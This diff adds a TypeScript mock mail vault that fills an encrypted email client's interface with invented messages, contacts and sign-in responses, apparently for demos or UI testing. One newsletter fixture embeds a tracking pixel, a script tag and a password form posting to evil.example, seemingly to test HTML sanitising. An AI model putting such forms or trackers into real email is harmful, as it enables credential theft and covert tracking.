@@ -1,0 +1,177 @@
+import type { BodyView, Delivery, DraftView, EmailAddress, Folder, KeyView, MailRow, MailView, Recipient, Verdict } from '../../model/mail.js';
+import type { ListPage, ListQuery, Prepared, Progress, Refused, Session, Strength, Vault, VaultEvent } from '../../model/vault.js';
+
+const me: EmailAddress = { name: 'Mira Solberg', email: 'mira@harbour.example' };
+const anna: EmailAddress = { name: 'Anna Lindqvist', email: 'anna@northpier.example' };
+const jonas: EmailAddress = { name: 'Jonas Weber', email: 'jonas@northpier.example' };
+const tomas: EmailAddress = { name: 'Tomás Ferreira', email: 'tomas@harbour.example' };
+const priya: EmailAddress = { name: 'Dr Priya Raman', email: 'priya@clinic.example' };
+const owen: EmailAddress = { name: 'Owen Clarke', email: 'owen@quay.example' };
+const sofia: EmailAddress = { name: 'Sofia Marchetti', email: 'sofia@trieste.example' };
+const daniel: EmailAddress = { name: 'Daniel Okafor', email: 'daniel@harbour.example' };
+const yuki: EmailAddress = { name: 'Yuki Tanaka', email: 'yuki@studio.example' };
+
+const FINGERPRINT = '7f3a91c20d44b86e51aa0c37d9e2648b7f3a91c20d44b86e51aa0c37d9e2648b';
+const WORDS = 'anchor candle marble forest ribbon copper lantern meadow oyster puzzle quartz saddle timber velvet walnut zephyr barley cobalt dahlia ember fossil ginger hazel indigo'.split(' ');
+
+interface Played extends MailView {
+  readonly thread: string;
+  readonly body: BodyView;
+}
+
+let count = 0;
+const hoursAgo = (hours: number): string => new Date(Date.now() - hours * 3_600_000).toISOString();
+const text = (body: string): BodyView => ({ text: body, html: null });
+
+function played(from: EmailAddress, subject: string, body: string, hours: number, more: Partial<Played> = {}): Played {
+  count++;
+  const at = hoursAgo(hours);
+  return {
+    id: `item-${count}`, folder: 'inbox', own: from === me, from, to: [me], cc: [], bcc: [], subject, preview: body.split('\n').filter((line) => line !== '').slice(0, 2).join(' ').slice(0, 140),
+    sentAt: at, receivedAt: at, messageId: `<${count}@x>`, inReplyTo: [], references: [], seen: true, flagged: false, verdict: { name: 'sealed' }, signer: FINGERPRINT, keySince: hoursAgo(1700),
+    attachments: [], deliveries: [], thread: `thread-${count}`, body: text(body), ...more,
+  };
+}
+
+const file = (index: number, name: string, type: string, size: number) => ({ index, name, type, size, cid: null });
+const verified: Verdict = { name: 'verified' };
+const delivery = (address: string, state: Delivery['state'], reason: string | null = null): Delivery => ({ address, field: 'to', state, reason, at: hoursAgo(1) });
+
+const NEWSLETTER = `<table width="100%" bgcolor="#f4efe6"><tr><td align="center" style="padding:24px"><h1 style="color:#663300;font-family:Georgia">Quay market</h1>
+<p style="color:#333">Saturday from nine. <a href="https://quay.example/market?x=1">See the stalls</a>.</p><img src="https://tracker.example/pixel.gif" width=1 height=1>
+<script>document.title='broken'</script><form action="https://evil.example"><input name=p type=password></form></td></tr></table>`;
+
+function scene(): Played[] {
+  const lease = [
+    played(anna, 'Lease for the harbour studio: final draft', 'Here is the draft. Clause 7 is the one I would like us to talk about before Friday.', 90, { thread: 'lease', verdict: verified }),
+    played(me, 'Re: Lease for the harbour studio: final draft', 'Thank you, Anna. Could clause 7 say “with three months’ notice” instead of six?', 88, { thread: 'lease', folder: 'sent', to: [anna], cc: [jonas], verdict: verified, deliveries: [delivery(anna.email, 'delivered'), delivery(jonas.email, 'delivered')] }),
+    played(anna, 'Re: Lease for the harbour studio: final draft', 'Good morning both,\n\nThe signed copy is attached. The only change is clause 7, which now says three months’ notice on either side, as we agreed on Thursday. Jonas, could you file it with the registry before the 30th? Mira, the keys are with Tomás from Monday. The register is at https://registry.example/find (open until six).\n\nAnna\n\nOn Thursday, Mira Solberg wrote:\n> Thank you, Anna.\n> Could clause 7 say “with three months’ notice”?', 0.4,
+      { thread: 'lease', to: [me, jonas], verdict: verified, flagged: true, attachments: [file(0, 'Lease-signed.pdf', 'application/pdf', 1_800_000), file(1, 'Floor-plan.png', 'image/png', 640_000), file(2, 'Quay-view.jpg', 'image/jpeg', 212_000)] }),
+  ];
+  const rest = [
+    played(tomas, 'Kiln arrives Thursday, who can help carry?', 'It weighs 140 kg, so three of us and the trolley. I can be there at eight.', 0.9, { seen: false, verdict: { name: 'first-contact' }, keySince: hoursAgo(0.9) }),
+    played(priya, 'Your results, and a time for Tuesday', 'All values are in the normal range. Would 15:30 on Tuesday suit you for the talk?', 1.5, { seen: false, verdict: verified, attachments: [file(0, 'results.pdf', 'application/pdf', 90_000)] }),
+    played(owen, 'New phone, so my key is new too', 'I moved to a new phone this morning. Call me and we compare the new key.', 2, { seen: false, verdict: { name: 'key-changed' } }),
+    played(yuki, 'Quay market on Saturday', 'Saturday from nine. See the stalls.', 20, { body: { text: 'Saturday', html: NEWSLETTER } }),
+    played(sofia, 'Train times to Trieste', 'The 08:12 has the longer stop in Villach, enough for lunch at the station.', 26, { verdict: verified, flagged: true }),
+    played(daniel, 'Cannot', 'x', 27, { verdict: { name: 'broken', reason: 'tampered' }, signer: null }),
+    played(daniel, 'Board minutes, October', 'Please send corrections by Wednesday. Page 3 has the new budget.', 30, { verdict: { name: 'unchecked' }, attachments: [file(0, 'minutes.odt', 'application/vnd.oasis.opendocument.text', 44_000)] }),
+    played(yuki, 'Photos from the opening', 'Forty-two pictures, full size. My favourites are 7, 19 and the last.', 50, { verdict: { name: 'incomplete' }, attachments: [file(0, 'photos.zip', 'application/zip', 82_000_000)] }),
+    played(me, 'Registry fees and dates', 'Thank you, Jonas. I will bring the originals on Monday.', 3, { folder: 'sent', to: [jonas], deliveries: [delivery(jonas.email, 'delivered')] }),
+    played(me, 'Studio opening, 5 December', 'The room is ours from four.', 5, { folder: 'sent', to: [anna, yuki], bcc: [tomas], deliveries: [delivery(anna.email, 'delivered'), delivery(yuki.email, 'refused', 'no-such-address'), delivery(tomas.email, 'delayed')] }),
+    played(me, 'Key money', 'Waiting.', 6, { folder: 'sent', to: [owen], deliveries: [delivery(owen.email, 'waiting')] }),
+  ];
+  const older = Array.from({ length: 240 }, (_, at) => played([sofia, daniel, yuki, anna][at % 4] ?? anna, `Letter ${240 - at}`, 'Nothing but a few lines, so that the list is long enough to scroll in.', 80 + at * 9));
+  return [...lease, ...rest, ...older];
+}
+
+const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+const refused = (code: string): Refused => ({ kind: 'refused', code });
+
+/** Plays the vault in the page: data of its own, no keys, no server. */
+export class PlayedVault implements Vault {
+  #mails: Played[];
+  readonly #drafts = new Map<string, DraftView>();
+  #listener: (event: VaultEvent) => void = () => undefined;
+  readonly #session: Session = { kind: 'session', address: me.email, fingerprint: FINGERPRINT };
+
+  constructor(readonly how: { readonly signedIn: boolean; readonly empty: boolean; readonly slow: boolean; readonly offline: boolean }) {
+    this.#mails = how.empty ? [] : scene();
+  }
+
+  suggestPassphrase = () => Promise.resolve('tundra violin harvest pebble orbit saffron willow');
+  strength = (passphrase: string): Promise<Strength> => Promise.resolve({ score: Math.min(4, Math.floor(passphrase.length / 6)) as Strength['score'], hint: passphrase.length < 18 ? 'strength.longer' : null });
+  async signUp(): Promise<Prepared | Refused> { await pause(600); return { kind: 'prepared', words: WORDS, asked: [6, 18] }; }
+  async finishSignUp(words: readonly [string, string]) { await pause(500); return words.join() === 'lantern,dahlia' ? this.#session : refused('wrong-words'); }
+  async signIn(_: string, passphrase: string) { await pause(500); return passphrase === 'wrong' ? refused('wrong-credentials') : passphrase === 'often' ? { ...refused('too-many'), retryAfter: 300 } : this.#session; }
+  async recover() { await pause(500); return this.#session; }
+  resume = () => Promise.resolve(this.how.signedIn ? this.#session : null);
+  async changePassphrase(current: string) { await pause(500); return current === 'wrong' ? refused('wrong-credentials') : null; }
+  lock = () => Promise.resolve();
+  signOut = () => Promise.resolve();
+
+  subscribe(listener: (event: VaultEvent) => void) { this.#listener = listener; return Promise.resolve(); }
+  sync() { this.#listener({ kind: 'sync', state: this.how.offline ? 'offline' : 'synced', at: new Date().toISOString() }); return Promise.resolve(null); }
+  unread() {
+    const n = (folder: Folder) => this.#mails.filter((mail) => mail.folder === folder && !mail.seen).length;
+    return Promise.resolve({ inbox: n('inbox'), drafts: this.#drafts.size, sent: 0, trash: n('trash') });
+  }
+
+  async list({ folder, search, from, count: most }: ListQuery): Promise<ListPage> {
+    if (this.how.slow) await pause(60_000);
+    const words = search.toLowerCase().split(/\s+/).filter((word) => word !== '');
+    const rows = folder === 'drafts' ? [...this.#drafts.values()].map(draftRow) : this.#rows(folder);
+    const found = rows.filter((row) => words.every((word) => JSON.stringify(row).toLowerCase().includes(word)));
+    return { rows: found.slice(from, from + most), total: found.length, unread: rows.filter(({ seen }) => !seen).length };
+  }
+
+  #rows(folder: Folder): MailRow[] {
+    const threads = new Map<string, Played[]>();
+    for (const mail of this.#mails) if (mail.folder === folder) threads.set(mail.thread, [...(threads.get(mail.thread) ?? []), mail]);
+    const rows = [...threads.values()].map((mails): MailRow => {
+      const last = mails.at(-1) as Played;
+      const all = this.#mails.filter(({ thread }) => thread === last.thread);
+      const people = folder === 'sent' ? [...last.to, ...last.cc] : all.map(({ from }) => from);
+      const worst = last.own ? (last.deliveries.find(({ state }) => state !== 'delivered')?.state ?? 'delivered') : null;
+      return { id: last.id, people, subject: all[0]?.subject ?? '', preview: last.preview, at: last.receivedAt, count: all.length, seen: mails.every(({ seen }) => seen), flagged: all.some(({ flagged }) => flagged), hasAttachment: all.some(({ attachments }) => attachments.length > 0), verdict: last.verdict, delivery: worst, draft: false };
+    });
+    return rows.sort((a, b) => b.at.localeCompare(a.at));
+  }
+
+  conversation(id: string) {
+    const mail = this.#mails.find((one) => one.id === id);
+    return Promise.resolve(mail === undefined ? refused('not-found') : this.#mails.filter(({ thread }) => thread === mail.thread));
+  }
+  async body(id: string) { await pause(150); return this.#mails.find((one) => one.id === id)?.body ?? refused('not-found'); }
+  async attachment(_: string, index: number, progress: Progress) {
+    for (let done = 0; done <= 10; done++) { progress('fetch', done, 10); await pause(120); }
+    return index === 2 ? refused('tampered') : new Blob(['content']);
+  }
+  mark(ids: readonly string[], flags: { readonly seen?: boolean; readonly flagged?: boolean }) {
+    this.#mails = this.#mails.map((mail) => (ids.includes(mail.id) ? { ...mail, ...flags } : mail));
+    this.#listener({ kind: 'mail', ids });
+    return Promise.resolve(null);
+  }
+  move(ids: readonly string[], folder: Folder) {
+    this.#mails = this.#mails.filter((mail) => !(folder === 'trash' && mail.folder === 'trash' && ids.includes(mail.id))).map((mail) => (ids.includes(mail.id) ? { ...mail, folder } : mail));
+    this.#listener({ kind: 'mail', ids });
+    return Promise.resolve(null);
+  }
+
+  async lookUp(email: string): Promise<Recipient> {
+    await pause(400);
+    const person = [anna, jonas, tomas, priya, owen, sofia, daniel, yuki].find((one) => one.email === email);
+    const state: Recipient['state'] = !email.includes('@') ? 'invalid' : email.startsWith('nobody') ? 'no-such-address' : email.startsWith('away') ? 'domain-away' : person === owen ? 'key-changed' : person === anna ? 'verified' : 'sealed';
+    return { email, name: person?.name ?? null, state, fingerprint: FINGERPRINT };
+  }
+  keys = (address: string): Promise<KeyView | null> => Promise.resolve({ address, fingerprint: FINGERPRINT, since: hoursAgo(900), verified: address === anna.email, changed: address === owen.email ? FINGERPRINT.replaceAll('a', '4') : null });
+  verifyKey = () => Promise.resolve(null);
+  acceptKey = () => Promise.resolve(null);
+  complete(start: string) {
+    const known = [anna, jonas, tomas, priya, owen, sofia, daniel, yuki].map(({ name, email }) => ({ name: name ?? '', email }));
+    return Promise.resolve(known.filter(({ name, email }) => `${name} ${email}`.toLowerCase().includes(start.toLowerCase())).slice(0, 8));
+  }
+  async saveDraft(draft: DraftView) {
+    await pause(200);
+    const id = draft.id ?? `draft-${++count}`;
+    this.#drafts.set(id, { ...draft, id, savedAt: new Date().toISOString() });
+    this.#listener({ kind: 'folders' });
+    return id;
+  }
+  draft(id: string) { return Promise.resolve(this.#drafts.get(id) ?? refused('not-found')); }
+  discardDraft(id: string) { this.#drafts.delete(id); this.#listener({ kind: 'folders' }); return Promise.resolve(null); }
+  async send(draft: DraftView, progress: Progress) {
+    for (let done = 0; done <= 10; done++) { progress('upload', done, 10); await pause(150); }
+    if (draft.subject === 'fail') return refused('domain-away');
+    const mail = played(me, draft.subject, draft.text, 0, { folder: 'sent', to: draft.to, cc: draft.cc, deliveries: draft.to.map(({ email }) => delivery(email, 'waiting')) });
+    this.#mails.push(mail);
+    if (draft.id !== null) this.#drafts.delete(draft.id);
+    this.#listener({ kind: 'mail', ids: [mail.id] });
+    return mail.id;
+  }
+  cancelSend = () => Promise.resolve();
+}
+
+function draftRow(draft: DraftView): MailRow {
+  return { id: draft.id ?? '', people: [...draft.to, ...draft.cc], subject: draft.subject, preview: draft.text.slice(0, 140), at: draft.savedAt ?? new Date().toISOString(), count: 1, seen: true, flagged: false, hasAttachment: draft.files.length > 0, verdict: { name: 'sealed' }, delivery: null, draft: true };
+}
